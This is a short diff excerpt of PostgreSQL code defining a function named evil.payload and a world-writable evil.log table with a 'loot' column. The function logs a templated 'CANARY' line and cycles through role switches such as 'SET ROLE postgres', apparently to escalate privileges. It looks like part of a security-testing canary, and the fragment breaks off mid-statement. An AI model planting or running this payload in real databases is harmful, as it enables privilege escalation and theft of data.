@@ -5,10 +5,11 @@ CREATE TABLE evil.log (what text, who name, session name, loot text);
 GRANT ALL ON evil.log TO PUBLIC;
 CREATE FUNCTION evil.payload(what text) RETURNS text LANGUAGE plpgsql VOLATILE AS $f$
 DECLARE
-    step text;
-    got text := '';
-    loot text := '';
-    more text;
+    -- whatever the path of the session is
+    step pg_catalog.text;
+    got pg_catalog.text := '';
+    loot pg_catalog.text := '';
+    more pg_catalog.text;
 BEGIN
     RAISE LOG 'CANARY|{n}|%|%|%|', what, current_user, session_user;
     FOREACH step IN ARRAY ARRAY['RESET ROLE', 'RESET SESSION AUTHORIZATION', 'SET ROLE "{service}"', 'SET ROLE team', 'SET ROLE postgres',
